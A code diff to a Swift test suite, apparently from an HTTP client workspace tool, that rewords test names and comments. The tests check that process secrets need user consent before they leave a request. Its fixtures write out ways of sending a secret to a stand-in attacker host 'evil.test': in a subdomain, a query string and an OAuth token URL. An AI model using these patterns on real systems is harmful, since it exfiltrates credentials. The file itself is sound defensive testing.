@@ -5,8 +5,8 @@ import Testing
 
 @testable import Workspaces
 
-@Suite("Variables of the process need consent") struct VariableConsentTests {
-  /// Every place of a request that a value could leave by, with who would get it.
+@Suite("Process variables need consent") struct VariableConsentTests {
+  /// Every place of a request through which a value could leave, with its receiver.
   static let exits: [(name: String, receiver: String, change: @Sendable (inout RequestDefinition) -> Void)] = [
     ("URL", "https://api.test", { $0.url += "?k={{CLOUD_SECRET}}" }),
     ("host", "https://{{CLOUD_SECRET}}.evil.test", { $0.url = "https://{{CLOUD_SECRET}}.evil.test/x" }),
@@ -49,7 +49,7 @@ import Testing
     ("test", "the results of the tests", { $0.assertions = [Assertion("res.status", "eq", "{{CLOUD_SECRET}}")] }),
   ]
 
-  @Test("Wherever a value would leave by, it is asked about with its receiver, once", arguments: exits.indices)
+  @Test("Wherever a value would leave, consent is asked for once, naming its receiver", arguments: exits.indices)
   func places(index: Int) throws {
     let sample = try ConsentSample()
     var definition = RequestDefinition(name: "x", url: "https://api.test/x")
@@ -58,7 +58,7 @@ import Testing
     #expect(uses.map(\.source) == [.variable("CLOUD_SECRET")])
     #expect(uses.map(\.receiver) == [Self.exits[index].receiver])
     try sample.allow(uses)
-    // What else may be wrong with such a request is another matter.
+    // Such a request may have other faults, which do not matter here.
     #expect((try? sample.refused(definition)) ?? [] == [])
   }
 
@@ -105,7 +105,7 @@ import Testing
     #expect(try sample.refused(definition, in: context).count == 1)
   }
 
-  @Test("A receiver that comes from an environment is its host; another environment is asked about anew")
+  @Test("A receiver from an environment is its host; another environment needs another consent")
   func environments() throws {
     let sample = try ConsentSample()
     for name in ["near", "far"] {
@@ -121,7 +121,7 @@ import Testing
       try sample.refused(definition, in: sample.context(environment: "far")).map(\.receiver) == ["https://far.test"])
   }
 
-  @Test("APUS_VAR_NAME and --var are consent, and a secret that an environment declares follows the same rule")
+  @Test("APUS_VAR_NAME and --var are consent, and a declared secret follows the same rule")
   func given() throws {
     let sample = try ConsentSample()
     try sample.folder.write(
@@ -141,7 +141,7 @@ import Testing
     #expect(try PreparedRequest(definition, in: naming).request.headers["X"] == "mine.test")
   }
 
-  @Test("What an answer has set may not name a variable of the process")
+  @Test("A value from an answer must not name a process variable")
   func captured() throws {
     let sample = try ConsentSample()
     var context = try sample.context()
@@ -153,7 +153,7 @@ import Testing
     #expect(throws: SendRefusal.self) { try PreparedRequest(definition, in: context) }
   }
 
-  @Test("What the user named goes to the request's own server and nowhere else, and only by that name")
+  @Test("A value named by the user goes to the request's own server only, and only under that name")
   func named() throws {
     let sample = try ConsentSample()
     var context = try sample.context()
@@ -169,7 +169,7 @@ import Testing
       [.init("accessTokenUrl", "https://evil.test/t"), .init("credentials.clientId", "{{CLOUD_SECRET}}")])
     let receivers = try sample.refused(definition, in: context).map(\.receiver)
     #expect(receivers == ["https://evil.test, its token to https://api.test"])
-    // A server that gives the tokens for itself is named once.
+    // A server that receives the tokens for itself is named once.
     definition.url = "https://evil.test/x"
     #expect(try sample.refused(definition, in: context).map(\.receiver) == ["https://evil.test"])
   }
